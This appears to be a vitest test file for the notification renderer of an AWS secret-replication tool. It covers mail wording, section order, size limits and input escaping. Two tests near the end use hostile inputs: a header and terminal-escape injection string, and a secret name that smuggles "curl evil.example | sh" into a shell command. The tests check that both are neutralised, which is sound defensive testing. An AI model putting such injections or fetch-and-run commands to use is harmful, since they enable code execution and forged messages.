import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { ReplicaReport, Report } from '../../src/core/report.ts';
import { type Message, renderMessage } from '../../src/render/message.ts';
import { report, row, rows } from '../support/report.ts';

const STATUSES = ['failed', 'blocked', 'drifted', 'deferred', 'healed', 'in-sync'] as const;

/** @see https://docs.aws.amazon.com/sns/latest/api/API_Publish.html */
const SNS_LIMIT = 262_144;

test('a mail begins with the numbers and the worst: what, why, since when, what was done, the next step; then the rest', () => {
  const partner = { target: 'partner', region: 'eu-central-1', account: '222233334444', name: 'shared/db' };
  const said = [
    row({ status: 'in-sync' }),
    row({ status: 'healed', drift: ['stale'], actions: ['put', 'relabel'] }),
    row({
      status: 'failed',
      drift: ['missing'],
      reason: 'CreateSecret on prod/db in eu-central-1: denied',
      ...partner,
    }),
  ];
  const { subject, text } = messageOf(report(said, { mode: 'reconcile', trigger: 'schedule' }));
  expect(subject).toBe('Lockstep us-east-1: 1 failed, 1 healed of 3 replicas');
  expect(text).toBe(`Lockstep us-east-1: 1 failed, 1 healed of 3 replicas

Wrong: failed, missing: prod/db -> partner (eu-central-1, 222233334444) as shared/db
Why: CreateSecret on prod/db in eu-central-1: denied
Since: not known; seen 2026-01-31 12:00 UTC
Done: 1 replica healed
Next: mend what the reason names; the next run tries again
Runbook: docs/runbook.md, section missing

FAILED: 1 replica
Their state is not known. The reason names the remedy; the next run tries again.

  missing
  why:  CreateSecret on prod/db in eu-central-1: denied
    prod/db -> partner (eu-central-1, 222233334444) as shared/db

HEALED: 1 replica
In sync with the origin again. If it had diverged, someone had written to the replica.

  stale
  done: put, relabel
    prod/db -> dublin (eu-west-1, 111122223333)

In sync: 2 of 3 replicas (1 healed by this run), 1 secret.

reconcile by schedule, origin us-east-1 in account 111122223333
2026-01-31T12:00:00.000Z to 2026-01-31T12:00:07.000Z, run 0b5e0d3c-1111-4222-8333-444455556666

To look closer, without a write:
  lockstep audit --secret 'prod/db'
`);
});

/** The kind: a message that says "done" of an action that was not done. */
const TENSES = [
  { mode: 'audit', status: 'drifted', said: 'a heal would: put' },
  { mode: 'dry-run', status: 'drifted', said: 'a heal would: put' },
  { mode: 'reconcile', status: 'drifted', said: 'a heal would: put' },
  { mode: 'reconcile', status: 'healed', said: 'done: put' },
  { mode: 'reconcile', status: 'failed', said: 'done: put' },
  { mode: 'reconcile', status: 'deferred', said: 'done: put' },
  { mode: 'reconcile', status: 'blocked', said: 'done: put' },
] as const;

test.each(TENSES)('for a row that is $status in mode $mode a mail says "$said"', ({ mode, status, said }) => {
  const { text } = messageOf(report([row({ status, drift: ['stale'], actions: ['put'] })], { mode }));
  expect(text.match(/^ {2}(done|a heal would): put$/m)?.[0]).toBe(`  ${said}`);
});

test('a mail of a held run asks for a person, for each replica that was left', () => {
  const held = 'AWSCURRENT of 60 of 90 replicas would be replaced; look at them by an audit';
  const { text } = messageOf(report(rows(60, { status: 'deferred', reason: held }), { mode: 'reconcile', held }));
  expect(text).toContain('nothing is written until a person has looked');
  expect(text).not.toContain('nothing to do');
});

test('sections come in order of importance, and the subject counts them in the same order', () => {
  const { subject, text } = messageOf(report(STATUSES.toReversed().map((status) => row({ status }))));
  expect([...text.matchAll(/^([A-Z, ]+): 1 replica$/gm)].map(([, title]) => title)).toEqual([
    'FAILED',
    'BLOCKED',
    'DRIFTED, LEFT ALONE',
    'DEFERRED',
    'HEALED',
  ]);
  expect(subject).toBe('Lockstep us-east-1: 1 failed, 1 blocked, 1 drifted, 1 deferred, 1 healed of 6 replicas');
});

test('attributes have the worst status, the trigger and the numbers, to filter on', () => {
  const attributesOf = (...statuses: ReplicaReport['status'][]) =>
    messageOf(
      report(
        statuses.map((status) => row({ status })),
        { trigger: 'event' },
      ),
    ).attributes;
  expect(attributesOf('in-sync')).toEqual({
    mapping: 'lockstep',
    status: 'in-sync',
    trigger: 'event',
    left: 0,
    failed: 0,
  });
  expect(attributesOf('in-sync', 'healed')).toEqual({
    mapping: 'lockstep',
    status: 'healed',
    trigger: 'event',
    left: 0,
    failed: 0,
  });
  expect(attributesOf('healed', 'drifted', 'blocked', 'deferred')).toMatchObject({ status: 'drift', left: 3 });
  expect(attributesOf('drifted', 'failed')).toMatchObject({ status: 'failed', left: 1, failed: 1 });
});

test('only a run that left nothing open says "all in sync"', () => {
  expect(messageOf(report(rows(3))).subject).toBe('Lockstep us-east-1: all in sync, 3 replicas');
  for (const status of ['failed', 'blocked', 'drifted', 'deferred'] as const) {
    const { subject, text } = messageOf(report([row(), row({ status })]));
    expect(subject + text).not.toContain('all in sync');
  }
});

test('a mail of the function has a command for a closer look, ready for a shell', () => {
  const { text } = renderMessage(report([row({ status: 'failed' })]), { functionName: 'lockstep-reconciler' });
  expect(text).toContain(`aws lambda invoke --function-name lockstep-reconciler --region us-east-1 \\
    --cli-binary-format raw-in-base64-out --payload '{"mode":"audit","secrets":["prod/db"]}' /dev/stdout`);
});

test.each([
  ['long names', 'x'],
  ['names that JSON escapes twice', '"\\'],
  ['names of many bytes', '\u{1F511}'],
])('20,000 drifted replicas with %s stay within SNS’s limit, and both renderings say that they were cut', (_, unit) => {
  const long = (at: number): string => `${at}/${unit.repeat(500)}`.slice(0, 512);
  const many = Array.from({ length: 20_000 }, (_, at) =>
    row({ secret: long(at), name: long(at), status: 'drifted', drift: ['stale'], reason: long(at % 300) }),
  );
  const message = messageOf(report(many));
  expect(bytesSent(message)).toBeLessThan(SNS_LIMIT);
  expect(bytesSent(message)).toBeGreaterThan(SNS_LIMIT / 3);
  expect(message.subject).toBe('Lockstep us-east-1: 20000 drifted of 20000 replicas');
  expect(message.text).toMatch(/left out for size; look closer with `lockstep audit`\.\n$/);
  const json = JSON.parse(message.json);
  expect(json.summary.drifted).toBe(20_000);
  expect(json.cut).toBe(`${20_000 - json.replicas.length} of 20000 replicas left out for size`);
  expect(json.replicas.length).toBeGreaterThan(10);
});

test('a report that is too long keeps what is wrong and omits what is in sync', () => {
  const { json } = messageOf(report([...rows(5_000), ...rows(3, { status: 'failed' })]));
  expect(JSON.parse(json)).toMatchObject({
    replicas: [{ status: 'failed' }, { status: 'failed' }, { status: 'failed' }],
    cut: '5000 of 5003 replicas left out for size',
  });
});

test('whatever the names and reasons are, subject and mail are printable ASCII and cannot be forged', () => {
  const word = fc.string({ unit: 'binary', maxLength: 60 });
  const any = fc.record({ secret: word, name: word, target: word, reason: word, status: fc.constantFrom(...STATUSES) });
  fc.assert(
    fc.property(fc.array(any, { maxLength: 8 }), fc.constantFrom('lockstep', null), (said, functionName) => {
      const about = report(said.map((one) => row(one)));
      const { subject, text, json } = renderMessage(about, { functionName });
      expect(subject).toMatch(/^Lockstep us-east-1: [\x20-\x7e]{1,79}$/);
      expect(text).toMatch(/^[\x20-\x7e\n]*$/);
      expect(text.split('\n').filter((line) => line.startsWith('In sync: '))).toHaveLength(1);
      expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(about)));
    }),
    { examples: [[[{ ...row({ status: 'failed' }), reason: 'x\r\nBcc: all@example.com\u2028\u001b[2J' }], null]] },
  );
});

test('a command to paste into a shell cannot run more than it shows', () => {
  const secret = "prod/x'; curl evil.example | sh; '";
  const { text } = messageOf(report([row({ secret, status: 'failed' })]));
  expect(text).toContain(`--secret 'prod/x'\\''; curl evil.example | sh; '\\'''`);
});

function messageOf(about: Report): Message {
  return renderMessage(about, { functionName: null });
}

/** The bytes that SNS counts: the envelope of `src/aws/topic.ts` with its attributes. */
function bytesSent({ subject, text, json, attributes }: Message): number {
  const envelope = JSON.stringify({ default: json, email: text });
  return Buffer.byteLength(envelope) + Buffer.byteLength(subject) + Buffer.byteLength(JSON.stringify(attributes)) + 200;
}
